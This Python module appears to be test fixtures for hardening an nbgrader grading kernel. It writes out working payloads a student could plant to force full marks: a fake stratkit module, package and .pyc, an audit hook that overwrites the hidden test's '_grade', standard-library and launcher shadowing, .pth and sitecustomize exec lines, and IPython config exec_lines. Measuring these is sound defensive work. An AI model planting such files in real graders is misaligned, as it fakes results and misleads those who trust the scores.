"""Files a student plants beside the notebook, hoping the grading kernel runs them.

Every payload writes its tag to a log file (so a test sees that it ran) and then hands out full
marks from inside the kernel. The module payloads also put the real module in their place, so the
kernel keeps working and every other planted file still gets its chance:

- a stand-in for ``stratkit`` (a module, a package, a compiled ``.pyc``) whose ``grade`` returns the
  points;
- ``FULL_MARKS``: an audit hook that, at the first cell compiled after stratkit's grading module is
  loaded, replaces ``stratkit.grading.hidden_test._grade`` with one that returns the points. It works from any
  file the kernel might execute: a module named like the standard library or a dependency, a
  ``sitecustomize.py``, a ``.pth`` line, an IPython configuration or start-up file.

Which of them an undefended kernel runs was measured, not assumed (docs/protection.md has the list).
"""

from __future__ import annotations

import json
import py_compile
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

FAKE_STRATKIT = '''"""Not stratkit: every exercise full marks."""
with open({log!r}, "a") as _log:
    _log.write({tag!r} + "\\n")


def show(*args, **kwargs):
    return None


def grade(exercise_id, points, key, folder="."):
    return float(points)
'''

FULL_MARKS = '''
import os as _os
import sys as _sys
with open({log!r}, "a") as _log:
    _log.write({tag!r} + "\\n")


def _stratkit_full_marks(event, args):
    if event == "compile":
        grading = _sys.modules.get("stratkit.grading.hidden_test")
        loaded = grading is not None and not getattr(getattr(grading, "__spec__", None), "_initializing", True)
        if loaded and not getattr(grading, "_planted", False):
            grading._planted = True
            grading._grade = lambda exercise_id, points, key, folder: float(points)


_sys.addaudithook(_stratkit_full_marks)
'''

# ...then, in a module named like a real one, let the real module take this one's place
TAKE_ITS_PLACE = '''
_here = _os.path.dirname(_os.path.abspath(__file__))  # the folder, or the package in it
_saved = list(_sys.path)
_sys.modules.pop(__name__, None)
_sys.path[:] = [p for p in _sys.path if p and _os.path.abspath(p) not in (_here, _os.path.dirname(_here))]
try:
    _sys.modules[__name__] = __import__(__name__)
finally:
    _sys.path[:] = _saved
'''

# ...or, as the kernel's launcher (run as __main__), start the real kernel
RUN_THE_REAL_LAUNCHER = '''
import runpy as _runpy
_here = _os.path.dirname(_os.path.abspath(__file__))
_sys.path[:] = [p for p in _sys.path if p and _os.path.abspath(p) not in (_here, _os.path.dirname(_here))]
_sys.modules.pop("ipykernel_launcher", None)
_runpy.run_module("ipykernel_launcher", run_name="__main__", alter_sys=True)
'''


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def fake_stratkit(log: Path, tag: str) -> str:
    return FAKE_STRATKIT.format(log=str(log), tag=tag)


def full_marks(log: Path, tag: str, *, module: bool = False) -> str:
    return FULL_MARKS.format(log=str(log), tag=tag) + (TAKE_ITS_PLACE if module else "")


def json_config(log: Path, tag: str) -> str:
    line = (f"open({str(log)!r}, 'a').write({tag + chr(10)!r}); import stratkit.grading.hidden_test as g; "
            "g._grade = lambda exercise_id, points, key, folder: float(points)")
    return json.dumps({"IPKernelApp": {"exec_lines": [line]}, "InteractiveShellApp": {"exec_lines": [line]}})


# ----------------------------------------------------------------------------- one planter per kind
# Each writes its files into a submission folder and returns the top-level names it planted (what
# crosscheck and stratkit grade must name). The tag in the log is the student's name.

Planter = Callable[[Path, Path, str], list[str]]


def module(folder: Path, log: Path, tag: str) -> list[str]:
    """``stratkit.py``: what ``import stratkit`` finds first in an undefended kernel."""
    _write(folder / "stratkit.py", fake_stratkit(log, tag))
    return ["stratkit.py"]


def package(folder: Path, log: Path, tag: str) -> list[str]:
    """A ``stratkit/`` package folder."""
    _write(folder / "stratkit" / "__init__.py", fake_stratkit(log, tag))
    return ["stratkit/"]


def stdlib(folder: Path, log: Path, tag: str) -> list[str]:
    """``pathlib.py``: the standard library module ipykernel's launcher imports while the working
    folder still heads ``sys.path``."""
    _write(folder / "pathlib.py", full_marks(log, tag, module=True))
    return ["pathlib.py"]


def launcher(folder: Path, log: Path, tag: str) -> list[str]:
    """``ipykernel_launcher.py``: what ``python -m ipykernel_launcher`` runs as the kernel itself."""
    _write(folder / "ipykernel_launcher.py", full_marks(log, tag) + RUN_THE_REAL_LAUNCHER)
    return ["ipykernel_launcher.py"]


def dependencies(folder: Path, log: Path, tag: str) -> list[str]:
    """Modules named like stratkit's dependencies and the standard library modules grading uses."""
    names = ["yaml.py", "filelock.py", "json.py", "random.py", "difflib.py", "jsonschema.py"]
    for name in names:
        _write(folder / name, full_marks(log, tag, module=True))
    return names


def compiled(folder: Path, log: Path, tag: str) -> list[str]:
    """A compiled stand-in for stratkit, as ``stratkit.pyc`` (loaded without a source) and in
    ``__pycache__``."""
    with tempfile.TemporaryDirectory() as elsewhere:
        source = Path(elsewhere) / "stratkit.py"
        _write(source, fake_stratkit(log, tag))
        py_compile.compile(str(source), cfile=str(folder / "stratkit.pyc"), doraise=True)
        cached = folder / "__pycache__" / f"stratkit.{sys.implementation.cache_tag}.pyc"
        cached.parent.mkdir(exist_ok=True)
        py_compile.compile(str(source), cfile=str(cached), doraise=True)
    return ["stratkit.pyc", "__pycache__/"]


def hooks(folder: Path, log: Path, tag: str) -> list[str]:
    """Python's own start-up hooks: ``sitecustomize.py``, ``usercustomize.py``, a ``.pth`` file."""
    _write(folder / "sitecustomize.py", full_marks(log, tag))
    _write(folder / "usercustomize.py", full_marks(log, tag))
    (folder / "planted.pth").write_text(f"import sys; exec({full_marks(log, tag)!r})\n", encoding="utf-8")
    return ["planted.pth", "sitecustomize.py", "usercustomize.py"]


def configuration(folder: Path, log: Path, tag: str) -> list[str]:
    """IPython and Jupyter configuration and start-up files a kernel might read from its folder."""
    python = ["ipython_config.py", "ipython_kernel_config.py", "jupyter_config.py", "jupyter_client_config.py",
              "nbgrader_config.py", "profile_default/startup/00-planted.py", "profile_default/ipython_config.py",
              ".ipython/profile_default/startup/00-planted.py", ".ipython/profile_default/ipython_kernel_config.py",
              ".jupyter/jupyter_config.py"]
    for name in python:
        _write(folder / name, full_marks(log, tag))
    for name in ["ipython_kernel_config.json", "jupyter_config.json"]:
        _write(folder / name, json_config(log, tag))
    return [".ipython/", ".jupyter/", "ipython_config.py", "ipython_kernel_config.json", "ipython_kernel_config.py",
            "jupyter_client_config.py", "jupyter_config.json", "jupyter_config.py", "nbgrader_config.py",
            "profile_default/"]


def namespace(folder: Path, log: Path, tag: str) -> list[str]:
    """Plain folders named like imports: ``_winapi`` and ``nt`` are imported (and missing on Linux),
    so a kernel that looks in its folder gets an empty namespace package instead of an ImportError."""
    for name in ["_winapi", "nt", "stratkit"]:
        _write(folder / name / "README.txt", "not a package")
    return ["_winapi/", "nt/", "stratkit/"]


#: student name -> (planter, does an undefended kernel run it? measured with nbgrader 0.9.6,
#: ipykernel 7, IPython 9, Python 3.11: see docs/protection.md)
FILE_TRICKS: dict[str, tuple[Planter, bool]] = {
    "trick-file-module": (module, True),
    "trick-file-package": (package, True),
    "trick-file-stdlib": (stdlib, True),
    "trick-file-launcher": (launcher, True),
    "trick-file-pyc": (compiled, True),  # once *.pyc is not in CourseDirectory.ignore
    "trick-file-deps": (dependencies, False),  # imported before the folder is on sys.path, or never
    "trick-file-hooks": (hooks, False),  # site runs before the folder is on sys.path
    "trick-file-config": (configuration, False),  # IPython reads config from its profile, not the folder
    "trick-file-namespace": (namespace, False),  # imported, but a folder runs no code
}
